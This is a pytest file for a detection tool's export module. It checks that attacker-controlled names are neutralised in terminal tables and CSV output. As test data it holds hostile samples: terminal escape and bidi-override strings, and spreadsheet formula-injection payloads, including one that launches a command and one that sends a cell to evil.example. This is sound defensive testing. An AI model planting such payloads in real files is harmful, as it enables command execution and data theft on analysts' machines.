"""Tests of ``t1133.export``: the output formats, and that hostile text cannot attack the analyst.

Account, app and host names come from outside (an attacker picks the user name of a failed
or successful logon, the workstation name, sometimes the app name). In ``table`` output they
must not drive the terminal (ANSI/OSC escapes, other C0/C1 controls, bidi overrides); in CSV
they must not become spreadsheet formulas (OWASP "CSV Injection"). Colour is written only
when the caller asks for it; the ``NO_COLOR`` convention is the command line's business.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import attrs
import pytest

from t1133 import FINDING_FIELDS, Finding
from t1133.export import FORMATS, neutralize, spreadsheet_safe
from test_findings import RDP

UTC = timezone.utc
ESC = "\x1b"
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE

# The known fake RDP finding of test_findings.py, in whole seconds and without a record shape
# (as from a typed event): test_table_layout writes out what the table shows of it.
FINDING = attrs.evolve(
    RDP, time_generated=datetime(2026, 12, 4, 10, 0, 0, tzinfo=UTC), adapter=None
)

# Hostile text, with the visible form the table must show instead.
HOSTILE = [
    pytest.param("\x1b[31mroot\x1b[0m", r"\x1b[31mroot\x1b[0m", id="ansi-sgr"),
    pytest.param("\x1b]0;title\x07x", r"\x1b]0;title\x07x", id="osc-title"),
    pytest.param("\x1b[2J\x1b[H", r"\x1b[2J\x1b[H", id="ansi-clear"),
    pytest.param("a\x9b31mb", r"a\x9b31mb", id="c1-csi"),
    pytest.param("a\x85b", r"a\x85b", id="c1-nel"),
    pytest.param("evil\u202etxt.exe", r"evil\u202etxt.exe", id="bidi-rlo"),
    pytest.param("a\u2066b\u2069", r"a\u2066b\u2069", id="bidi-isolate"),
    pytest.param("line1\nline2", r"line1\nline2", id="newline"),
    pytest.param("cr\roverwrite", r"cr\roverwrite", id="carriage-return"),
    pytest.param("back\x08\x08sp", r"back\x08\x08sp", id="backspace"),
    pytest.param("del\x7f", r"del\x7f", id="delete"),
    pytest.param("nul\x00", r"nul\x00", id="nul"),
    pytest.param("zero\u200bwidth", r"zero\u200bwidth", id="zero-width"),
    pytest.param("para\u2029sep", r"para\u2029sep", id="paragraph-separator"),
]
# Characters that must never reach a terminal raw from untrusted text.
RAW_UNSAFE = [ESC, "\x07", "\x9b", "\x85", RLO, "\u2066", "\u2069", "\r", "\x08", "\x7f", "\x00"]
TEXT_FIELDS = ["account_name", "target_service", "computer"]
#: The table's column titles, in its order (the examples' tests read tables by them too).
TABLE_HEADER = [
    "TimeGenerated",
    "DetectionBranch",
    "AccountName",
    "SourceIP",
    "TargetService",
    "Computer",
    "Location",
    "RiskLevel",
]


def render(fmt: str, findings: list[Finding], *, colour: bool = False) -> str:
    """Run one registered writer into a string."""
    out = io.StringIO()
    FORMATS[fmt].write(findings, out, colour)
    return out.getvalue()


# --- the registry ----------------------------------------------------------------------------


def test_formats_registry():
    """Every output format is registered under its own id, ocsf and ecs included."""
    assert ["ndjson", "json", "csv", "table", "ocsf", "ecs"] == list(FORMATS)
    assert list(FORMATS) == [f.id for f in FORMATS.values()]
    assert all(f.description for f in FORMATS.values())


# --- the JSON formats ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "method"), [("ndjson", "to_dict"), ("ocsf", "to_ocsf"), ("ecs", "to_ecs")]
)
def test_line_formats_write_one_document_per_line(fmt, method):
    """ndjson, ocsf and ecs write one JSON document per finding and line, in order."""
    second = attrs.evolve(FINDING, account_name="asmith")
    lines = render(fmt, [FINDING, second]).splitlines()
    expected = [getattr(FINDING, method)(), getattr(second, method)()]
    assert expected == [json.loads(line) for line in lines]


def test_ocsf_lines_are_detection_findings():
    """Each ocsf line is an OCSF Detection Finding (class 2004, type 200401)."""
    (line,) = render("ocsf", [FINDING]).splitlines()
    document = json.loads(line)
    assert (2004, 200401) == (document["class_uid"], document["type_uid"])


def test_ecs_lines_are_alerts():
    """Each ecs line is an ECS alert document."""
    (line,) = render("ecs", [FINDING]).splitlines()
    assert "alert" == json.loads(line)["event"]["kind"]


def test_json_writes_one_array():
    """The json format writes one array of the plain documents."""
    assert [FINDING.to_dict()] == json.loads(render("json", [FINDING]))


@pytest.mark.parametrize("fmt", ["ndjson", "ocsf", "ecs"])
def test_line_formats_write_nothing_without_findings(fmt):
    """No findings, no lines (an empty NDJSON stream)."""
    assert "" == render(fmt, [])


@pytest.mark.parametrize("fmt", ["ndjson", "json", "ocsf", "ecs"])
@pytest.mark.parametrize("field", TEXT_FIELDS)
@pytest.mark.parametrize(("hostile", "visible"), HOSTILE)
def test_json_formats_escape_and_keep_hostile_text(fmt, field, hostile, visible):  # noqa: ARG001
    """JSON output holds no raw control or bidi character, and reads back to the exact text."""
    finding = attrs.evolve(FINDING, **{field: hostile})
    text = render(fmt, [finding])
    assert [] == [ch for ch in RAW_UNSAFE if ch in text]
    assert text.isascii()
    parsed = json.loads(text)[0] if fmt == "json" else json.loads(text.splitlines()[0])
    assert hostile in set(strings(parsed))


def strings(document: object) -> list[str]:
    """Every string value inside a JSON document, at any depth."""
    if isinstance(document, str):
        return [document]
    if isinstance(document, dict):
        return [s for value in document.values() for s in strings(value)]
    if isinstance(document, list):
        return [s for value in document for s in strings(value)]
    return []


# --- table -----------------------------------------------------------------------------------


def test_table_layout():
    """The table has a header, a rule, and one aligned row per finding."""
    lines = render("table", [FINDING]).splitlines()
    assert TABLE_HEADER == lines[0].split()
    assert 3 == len(lines)
    assert [
        "2026-12-04T10:00:00Z",
        "SecurityEvent_RDP_External",
        "jdoe",
        "81.2.69.144",
        "RDP_RemoteInteractive",
        "srv-app01",
    ] == lines[2].split()


def test_table_without_findings():
    """An empty run says so in words."""
    assert "no findings\n" == render("table", [])


@pytest.mark.parametrize("field", TEXT_FIELDS)
@pytest.mark.parametrize(("hostile", "visible"), HOSTILE)
def test_table_neutralises_hostile_text(field, hostile, visible):
    """Escapes, controls and bidi overrides in names are shown as visible escapes, never raw."""
    text = render("table", [attrs.evolve(FINDING, **{field: hostile})])
    assert [] == [ch for ch in RAW_UNSAFE if ch in text]
    assert visible in text


@pytest.mark.parametrize(("hostile", "visible"), HOSTILE)
def test_table_neutralises_hostile_branch_names_even_in_colour(hostile, visible):
    """A custom branch's name is untrusted too: with colour on, only t1133's SGR codes remain."""
    text = render("table", [attrs.evolve(FINDING, detection_branch=hostile)], colour=True)
    stripped = text.replace("\x1b[31m", "").replace("\x1b[0m", "")
    assert [] == [ch for ch in RAW_UNSAFE if ch in stripped]
    assert visible in text


def test_table_has_no_escape_without_colour():
    """colour=False writes no escape sequence at all."""
    findings = [attrs.evolve(FINDING, severity=s) for s in ("low", "medium", "high", "critical")]
    assert ESC not in render("table", findings, colour=False)


@pytest.mark.parametrize(
    ("severity", "code"),
    [("low", "\x1b[36m"), ("medium", "\x1b[33m"), ("high", "\x1b[31m"), ("critical", "\x1b[1;31m")],
)
def test_table_colours_the_branch_by_severity_when_asked(severity, code):
    """colour=True colours the branch cell by severity and resets after it."""
    text = render("table", [attrs.evolve(FINDING, severity=severity)], colour=True)
    row = text.splitlines()[2]
    assert f"{code}SecurityEvent_RDP_External" in row
    assert 1 == row.count("\x1b[0m")


@pytest.mark.parametrize("fmt", ["ndjson", "json", "csv", "ocsf", "ecs"])
def test_colour_flag_never_colours_data_formats(fmt):
    """Only the table knows colour; the data formats ignore the flag."""
    assert render(fmt, [FINDING], colour=False) == render(fmt, [FINDING], colour=True)


@pytest.mark.parametrize(("hostile", "visible"), HOSTILE)
def test_neutralize(hostile, visible):
    """Each unsafe character becomes its visible escape under neutralize."""
    assert visible == neutralize(hostile)


def test_neutralize_keeps_ordinary_text():
    """Printable text, accents and non-Latin scripts pass unchanged; None is empty."""
    assert "José Müller 山田" == neutralize("José Müller 山田")
    assert "" == neutralize(None)


# --- CSV -------------------------------------------------------------------------------------


def read_csv(text: str) -> list[dict[str, str]]:
    """Read CSV output back as dicts keyed by the header."""
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_header_starts_with_the_eight_fields():
    """The CSV header is the eight reference columns, then the context columns."""
    header = next(csv.reader(io.StringIO(render("csv", [FINDING]))))
    assert list(FINDING_FIELDS) == header[:8]
    assert ["SourceTable", "Adapter", "IPCategory", "Techniques", "Severity"] == header[8:]


def test_csv_without_findings_writes_the_header_only():
    """No findings: the eight-column header, nothing else."""
    rows = list(csv.reader(io.StringIO(render("csv", []))))
    assert [list(FINDING_FIELDS)] == rows


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
@pytest.mark.parametrize("field", ["account_name", "target_service", "computer"])
def test_csv_escapes_formula_cells(field, cell):
    """Cells starting with = + - @ tab or CR get a leading apostrophe; the rest is kept."""
    rows = read_csv(render("csv", [attrs.evolve(FINDING, **{field: cell})]))
    column = {"account_name": "AccountName", "target_service": "TargetService"}
    assert "'" + cell == rows[0][column.get(field, "Computer")]


@pytest.mark.parametrize("cell", ["jdoe", "a=b", "x+1", "user@contoso.example", "", " =1"])
def test_csv_keeps_ordinary_cells(cell):
    """Cells that do not start a formula are written as they are."""
    rows = read_csv(render("csv", [attrs.evolve(FINDING, account_name=cell)]))
    assert cell == rows[0]["AccountName"]


@pytest.mark.parametrize(
    "name", ['a,b "c"\nd', "x\r=cmd|' /C calc'!A0", "x\r\n@SUM(1)", "x\n-1+1", "a;b\tc"]
)
def test_csv_keeps_line_breaks_inside_their_cell(name):
    """Commas, quotes, CR and LF in a name stay inside its quoted cell: no injected row."""
    text = render("csv", [attrs.evolve(FINDING, account_name=name)])
    rows = read_csv(text)
    assert 1 == len(rows)
    assert name == rows[0]["AccountName"]


def test_csv_rows_end_in_crlf():
    """RFC 4180 line ends, so that every cell holding a CR or LF is quoted."""
    text = render("csv", [attrs.evolve(FINDING, account_name="a\rb")])
    assert 2 == text.count("\r\n")
    assert '"a\rb"' in text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\t1", "'\t1"),
        ("\r1", "'\r1"),
        ("1", "1"),
        (None, ""),
    ],
)
def test_spreadsheet_safe(value, expected):
    """spreadsheet_safe prefixes formula starts with an apostrophe and leaves the rest."""
    assert expected == spreadsheet_safe(value)
